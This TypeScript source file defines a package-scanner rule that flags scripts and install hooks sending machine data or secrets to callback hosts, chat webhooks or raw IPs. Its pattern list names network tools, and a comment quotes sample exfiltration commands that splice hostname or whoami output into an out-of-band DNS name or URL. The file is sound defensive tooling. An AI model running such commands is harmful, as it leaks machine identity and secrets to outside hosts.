import type { Indicator, Rule } from '../analysis/types';
import { indicatorsFor, matchChatEndpoints, matchHostServices, matchIpUrls, quote, clip } from '../analysis/helpers/behaviour-hosts';
import { analyseShell } from '../analysis/helpers/behaviour-shell';
import { launchedAtInstall, scriptLike, textChunks } from '../analysis/helpers/behaviour-text';

const INLINE_IDENTITY = /\b(?:hostname|userInfo|networkInterfaces|homedir)\s*\(\s*\)|\bprocess\.env\b(?!\.)|\bwhoami\b/;
const INLINE_NETWORK = /require\(\s*['"](?:node:)?(?:https?|net|dns|dgram)['"]\s*\)|\bfetch\s*\(/;
const NET_LINE = /\b(?:curl|wget|nc|ncat|Invoke-WebRequest|iwr|Invoke-RestMethod|irm|requests\.(?:get|post)|urllib|urlopen|http\.client|socket|fetch|DownloadString|WebClient)\b/i;

/**
 * Threat (scripts): the exfiltration signals of the JS rules, in shell / batch / PowerShell /
 * Python files, unparsable JavaScript and package.json scripts: an out-of-band or request-bin
 * host, a hard-coded chat webhook, machine identity spliced into a URL or DNS name
 * (`nslookup $(whoami).x.oast.fun`, `curl "https://…?h=$(hostname)"`), the environment piped to
 * curl, a raw public IP fetched with curl/wget.
 */
const rule: Rule = {
  type: 'text',
  meta: {
    id: 'script-exfil',
    kind: 'threat',
    category: 'exfil',
    severity: 'high',
    specificity: 'high',
    description: 'A script sends machine data or secrets to a callback host, webhook or raw IP.',
    skip: { typeDeclaration: true, test: true },
    maxPerFile: 2,
  },
  appliesTo: (file) => scriptLike(file),
  check(context) {
    const done = new Set<string>();
    const atInstall = /(?:^|\/)package\.json$|\.gypi?$/.test(context.file.path) || launchedAtInstall(context);
    for (const chunk of textChunks(context)) {
      const { text, offset, where } = chunk;
      const report = (key: string, index: number, message: string, indicators: Indicator[], severity?: 'medium') => {
        if (done.has(key)) return;
        done.add(key);
        context.report({ offset: offset + (where.startsWith('scripts.') ? 0 : index), message, indicators, ...(severity ? { severity } : {}) });
      };
      for (const hit of analyseShell(text)) {
        if (hit.behaviour === 'recon-exfil' || hit.behaviour === 'dns-exfil' || hit.behaviour === 'env-exfil') {
          report(hit.behaviour, hit.index, `${label(where)} ${hit.what}${hit.target ? ` (${quote(hit.target, 60)})` : ''}.`, hit.target ? indicatorsFor(hit.target) : []);
        }
      }
      // `node -e "…os.hostname()…https.get(…)"`: an inline Node beacon in a lifecycle script.
      if (where.startsWith('scripts.') && /\bnode\s+(?:-e|--eval|-p|--print)\b/.test(text) && INLINE_IDENTITY.test(text) && INLINE_NETWORK.test(text)) {
        report('inline-node', 0, `${label(where)} runs inline Node code that reads machine details (${INLINE_IDENTITY.exec(text)![0]}) and sends them out.`, []);
      }
      for (const m of matchHostServices(text)) {
        const high = m.kind === 'oob' || m.kind === 'request-capture' || m.kind === 'paste-upload';
        report(m.host, m.index, `${label(where)} contacts ${m.service} host ${quote(m.host, 60)}.`, indicatorsFor(m.host), high ? undefined : 'medium');
      }
      for (const m of matchChatEndpoints(text)) report(m.url, m.index, `${label(where)} posts to ${m.service} hard-coded in the package.`, indicatorsFor(m.url.startsWith('http') ? m.url : `https://${m.url}`));
      for (const m of matchIpUrls(text)) {
        const lineStart = text.lastIndexOf('\n', m.index) + 1;
        const lineEnd = text.indexOf('\n', m.index);
        const line = text.slice(lineStart, lineEnd < 0 ? undefined : lineEnd);
        if (!NET_LINE.test(line) || !atInstall) continue;
        report(m.ip, m.index, `${label(where)} talks to the hard-coded IP address ${m.ip}.`, [{ type: 'ip', value: m.ip }, { type: 'url', value: m.url }], 'medium');
      }
      if (done.size >= 2) break;
    }
  },
};

function label(where: string): string {
  return where.startsWith('scripts.') ? `The ${where.slice(8)} script` : `Script ${clip(where, 80)}`;
}

export default rule;
